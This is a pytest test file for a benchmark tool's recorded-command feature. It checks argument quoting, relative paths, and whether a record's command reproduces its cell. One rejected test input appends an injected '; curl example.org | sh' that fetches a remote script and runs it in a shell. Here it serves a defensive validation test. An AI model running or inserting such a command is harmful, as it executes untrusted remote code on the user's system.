"""The recorded command: it selects its cell, also of one's own suites and methods, and names no absolute path."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from compatbench.cli.options import split_list
from compatbench.execution.command import Origin, command, runs_its_cell
from compatbench.records.record import CellSpec, Record

LABEL = "bct(variant=old_classes, weight=2)"
CELL = ["--scenarios", "extended_data", "--seeds", "3"]


@pytest.fixture
def spec(cell_spec: CellSpec) -> CellSpec:
    return cell_spec.model_copy(update={"method": cell_spec.method.model_copy(update={"label": LABEL})})


def test_the_command_selects_the_cell(spec: CellSpec) -> None:
    words = shlex.split(command(spec))
    assert words == ["compatbench", "run", "small", "--methods", LABEL, *CELL]
    assert split_list(words[4]) == (LABEL,)
    words = shlex.split(command(spec, 1, Origin("my suites/small.yaml", ("../mine", "yours"))))
    assert words == ["compatbench", "run", "my suites/small.yaml", "--methods", f"../mine,yours,{LABEL}", *CELL]
    assert split_list(words[4]) == ("../mine", "yours", LABEL)
    words = shlex.split(command(spec, 1, Origin("", (), ("my data", "more"))))
    assert words[-4:] == ["--datasets", "my data", "--datasets", "more"]


def test_paths_are_relative(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    assert Origin.of("small", "small", []) == Origin()
    assert Origin.of("../suites/small.yaml", "small", [Path("mine")]) == Origin("../suites/small.yaml", ("mine",))
    inside, outside = str(tmp_path / "here" / "suites" / "small.yaml"), tmp_path / "mine"
    assert Origin.of(inside, "small", [outside]) == Origin("suites/small.yaml", ("mine",))
    assert Origin.of("small", "small", [], [outside]) == Origin("", (), ("mine",))


def test_a_record_is_asked_whether_its_command_runs_it(record: Record, spec: CellSpec) -> None:
    record = record.model_copy(update={"spec": spec})
    for size, origin in (
        (1, Origin()),
        (2, Origin("a/small.yml")),
        (1, Origin("small.yaml", ("mine", "yours"))),
        (1, Origin("", (), ("a b", "c"))),
    ):
        record.environment.processes = size
        recorded = record.model_copy(update={"command": command(spec, size, origin)})
        assert runs_its_cell(recorded), recorded.command
    wrong = [
        command(spec, 1, Origin("other.yaml")),
        command(spec, 1, Origin("small.py")),
        command(spec, 2),
        command(spec.model_copy(update={"seed": 4})),
        command(spec).replace("old_classes", "new_classes"),
        command(spec) + "; curl example.org | sh",
        command(spec) + " '",
        "compatbench run",
    ]
    for line in wrong:
        assert not runs_its_cell(record.model_copy(update={"command": line})), line
